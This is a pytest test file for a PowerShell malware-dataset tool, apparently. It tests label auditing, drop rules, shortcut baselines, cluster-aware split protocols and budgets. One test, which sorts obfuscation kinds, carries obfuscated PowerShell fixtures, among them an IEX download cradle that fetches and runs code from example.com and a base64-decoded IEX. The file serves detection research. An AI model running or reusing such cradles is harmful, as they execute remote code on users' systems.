"""Rules for dropping, shortcuts with known answers, and protocols that do not leak."""

import polars as pl
import pytest

from psembed.datasets import labels
from psembed.runtime.errors import CorpusError, ParameterError


def scripts(rows: list[dict]) -> pl.DataFrame:
    default = {
        "source": "a", "kind": "labelled", "stratum": "a", "repository_group": "", "family": "", "size": 10,
        "encoding": "ascii", "text": "x", "clean": "x", "part": "train",
    }  # fmt: skip
    numbered = ({"sha256": f"{n:064x}", "cluster": n, "group": n, **row} for n, row in enumerate(rows))
    table = [{**default, **row} for row in numbered]
    return pl.DataFrame(table, schema_overrides={"label": pl.Int8})


def test_every_rule_drops_what_it_names_and_nothing_else():
    audited = labels.audit(scripts([
        {"label": 1},
        {"label": 0},
        {"label": 0, "clean": ""},
        {"label": 0, "part": "aside"},
        {"label": 1, "cluster": 50},
        {"label": 0, "cluster": 50},
        {"label": 0, "cluster": 60},
        {"label": None, "kind": "offensive", "cluster": 60},
        {"label": 1, "cluster": 61},
        {"label": None, "kind": "offensive", "cluster": 61},
    ]))  # fmt: skip
    assert audited["dropped"].to_list() == [
        "", "", labels.DROP_EMPTY, labels.DROP_ASIDE, labels.DROP_CONFLICT, labels.DROP_CONFLICT,
        labels.DROP_OFFENSIVE, "",
    ]  # fmt: skip


@pytest.mark.parametrize("known", [[0, 0], [1], [None]])
def test_one_class_is_refused(known):
    with pytest.raises(CorpusError, match="two are needed"):
        labels.audit(scripts([{"label": label} for label in known]))


def test_overlap_counts_shared_clusters_once():
    table = scripts([
        {"label": 1, "stratum": "a", "cluster": 1}, {"label": 1, "stratum": "a", "cluster": 1},
        {"label": 1, "stratum": "b", "cluster": 1}, {"label": 1, "stratum": "b", "cluster": 2},
    ])  # fmt: skip
    assert labels.overlap(table).rows() == [("a malicious", "b malicious", 1, 2, 1)]


def test_one_line_rule_has_its_known_accuracy():
    table = scripts([
        {"label": 1, "text": "iex $x\r\n"}, {"label": 1, "text": "a\nb"},
        {"label": 0, "text": "a\r\nb"}, {"label": 0, "text": "a\nb\nc"}, {"label": 0, "text": "a\nb\nc"},
        {"label": None, "text": "a"},
    ])  # fmt: skip
    rules = labels.shortcuts(table)
    assert rules["all"] == rules["a"]
    assert rules["all"][0] == {
        "feature": "one_line", "rule": "one_line", "accuracy": 0.8, "balanced_accuracy": 0.75,
        "tpr": 0.5, "fpr": 0.0, "n": 5,
    }  # fmt: skip


def test_a_shortcut_is_turned_to_the_side_that_is_right():
    rule = labels.shortcuts(scripts([{"label": 1, "text": "a\nb"}, {"label": 0, "text": "a"}]))["all"][0]
    assert (rule["rule"], rule["accuracy"]) == ("not one_line", 1.0)


def wild_corpus() -> pl.DataFrame:
    parts = ("train", "validation", "test")
    clean = [{"label": 0, "kind": "benign", "source": "r", "part": part} for part in parts]
    known = [{"label": 1, "source": "old", "part": part} for part in parts]
    wild = [{"label": 1, "source": "wild", "part": part} for part in parts]
    copy = {"label": 1, "source": "wild", "part": "train", "cluster": 3, "group": 3}
    return labels.audit(scripts([*clean, *known, *wild, copy]))


def test_p2_trains_on_the_old_sources_and_tests_on_the_wild_one():
    samples = labels.protocols(wild_corpus(), wild_source="wild", seed=1)
    assert samples["p1"].to_list() == ["train", "validation", "test"] * 3 + ["train"]
    assert samples["p2"].to_list() == [
        "train", "validation", "test", "train", "validation", "train", "test", "test", "test", "",
    ]  # fmt: skip
    assert samples["rank"].to_list() == [0] * 9 + [1]


def test_a_wild_source_that_is_not_there_is_named():
    with pytest.raises(CorpusError, match=r"'wide'.*choose one of"):
        labels.protocols(wild_corpus(), wild_source="wide", seed=1)


def test_parts_keep_few_of_a_cluster_in_training_and_one_elsewhere_and_copies_apart():
    rows = [{"p1": part, "rank": rank} for part in ("train", "validation", "test") for rank in range(4)]
    sets = labels.parts(pl.DataFrame(rows), "p1", per_cluster=3)
    heights = {part: table.height for part, table in sets.items()}
    assert heights == {"train": 3, "validation": 1, "test": 1, labels.COPIES: 3}
    assert labels.COPIES not in labels.parts(pl.DataFrame(rows).filter(rank=0), "p1", per_cluster=3)


def test_the_naive_split_keeps_sizes_by_class_and_cuts_clusters():
    rows = [
        {"label": int(n % 4 == 0), "cluster": n // 2, "part": ("train", "test")[n % 3 == 0]}
        for n in range(400)
    ]
    rows += [
        {"label": label, "source": "wild", "cluster": 900 + label, "part": "validation"} for label in (0, 1)
    ]
    rows = [{"kind": "labelled", **row} for row in rows]
    audited = labels.audit(scripts(rows)).with_columns(dropped=pl.lit(""))
    p0 = labels.at_random(audited["part"].to_list(), audited["label"].to_numpy(), seed=1)
    dealt = audited.with_columns(p0=pl.Series(p0.tolist()))
    for part in ("train", "validation", "test"):
        for label in (0, 1):
            kept = dealt.filter(pl.col("label") == label)
            assert (kept["part"] == part).sum() == (kept["p0"] == part).sum()
    assert dealt.group_by("cluster").agg(pl.col("p0").n_unique())["p0"].max() == 2
    assert (
        p0.tolist()
        != labels.at_random(audited["part"].to_list(), audited["label"].to_numpy(), seed=2).tolist()
    )


def test_the_naive_protocol_counts_every_copy():
    rows = [{"p0": part, "rank": rank} for part in ("train", "validation", "test") for rank in range(4)]
    sets = labels.parts(pl.DataFrame(rows), "p0", per_cluster=3)
    assert {part: table.height for part, table in sets.items()} == dict.fromkeys(sets, 4)


def test_a_budget_is_a_nested_share_of_the_clusters_of_each_class():
    rows = pl.DataFrame(
        {"cluster": [n // 3 for n in range(300)], "label": [int(n >= 240) for n in range(300)]}
    )
    small, large = (labels.budget(rows, share=share, seed=1) for share in (0.1, 0.5))
    for kept, clean, malicious in ((small, 8, 2), (large, 40, 10)):
        by_class = kept.group_by("label").agg(pl.col("cluster").n_unique(), scripts=pl.len()).sort("label")
        assert by_class.rows() == [(0, clean, 3 * clean), (1, malicious, 3 * malicious)]
    assert set(small["cluster"]) < set(large["cluster"])
    assert labels.budget(rows, share=1, seed=1).equals(rows)
    assert labels.budget(rows, share=1e-6, seed=1)["cluster"].n_unique() == 2


@pytest.mark.parametrize("share", [0, -0.1, 1.1])
def test_a_budget_out_of_range_is_refused(share):
    with pytest.raises(ParameterError, match="share of the labels"):
        labels.budget(pl.DataFrame({"cluster": [1], "label": [1]}), share=share, seed=1)


def test_listed_scripts_are_dropped_for_their_reason_and_others_stay_as_they_were():
    audited = labels.audit(scripts([{"label": 1}, {"label": 0}, {"label": 0, "clean": ""}]))
    listed = pl.DataFrame({"sha256": [f"{1:064x}"], "reason": ["a written rule"], "extra": [1]})
    marked = labels.drop(audited, listed)
    assert marked["dropped"].to_list() == ["", "a written rule", labels.DROP_EMPTY]
    assert marked.columns == audited.columns


def test_kinds_tell_the_three_hard_scripts_and_leave_plain_ones():
    texts = pl.Series([
        "&('{2}{0}{1}' -f 'b','c','a') 'hello'",
        "$c=New-Object Net.WebClient;IEX $c.('Downl'+'oadStr'+'ing').Invoke('http://example.com/a')",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))",
        "Get-Service | Export-Csv services.csv",
    ])  # fmt: skip
    kinds = labels.hard_kinds(texts)
    assert kinds["C22"].tolist() == [True, False, False, False]
    assert kinds["C23"].tolist() == [False, True, False, False]
    assert kinds["C24"].tolist() == [False, False, True, False]


def test_dropped_test_scripts_are_one_a_cluster_and_class_and_none_is_empty():
    table = {
        "sha256": list("abcdefgh"), "source": list("swssswwz"), "stratum": "s", "family": "",
        "label": [1, 1, 0, 1, 1, 0, 1, 1], "cluster": [1, 1, 1, 2, 3, 4, 5, 6], "text": "t",
        "clean": ["t", "t", "t", "t", "", "t", "t", "t"],
        "dropped": ["why", "why", "why", "", "why", "why", "why", "why"],
        "part": ["test", "test", "test", "test", "test", "train", "train", "train"],
    }  # fmt: skip
    dropped = labels.dropped_tests(pl.DataFrame(table), wild_source="w")
    tested = {
        protocol: [rows["sha256"].to_list() for rows in labels.dropped_of(dropped, protocol).values()]
        for protocol in ("p0", "p1", "p2")
    }
    # P2 tests malicious scripts of the wild source alone, whatever their part; clean ones are as in P1.
    assert tested == {"p0": [], "p1": [["a", "c"]], "p2": [["b", "c", "g"]]}
    assert set(dropped["dropped"]) == {"why"} and "part" not in dropped.columns


def test_every_dropped_script_is_listed_with_its_reason():
    rows = {"sha256": ["b", "a", "c"], "source": "s", "label": [1, 1, 0], "dropped": ["why", "why", ""]}
    assert labels.listed(pl.DataFrame(rows))["sha256"].to_list() == ["a", "b"]


def test_copies_count_what_is_different_in_a_set():
    files = {
        "source": ["s"] * 4 + ["t"], "kind": ["labelled"] * 4 + ["benign"], "label": [1, 1, 1, 0, 0],
        "normalised": [7, 7, 8, 9, 9], "cluster": [1, 1, 1, 2, 2],
    }  # fmt: skip
    counts = labels.copies(pl.DataFrame(files)).to_dicts()
    assert counts[1] == {"source": "s", "label": 1, "files": 3, "distinct": 2, "clusters": 1, "largest": 3}
    assert len(counts) == 2
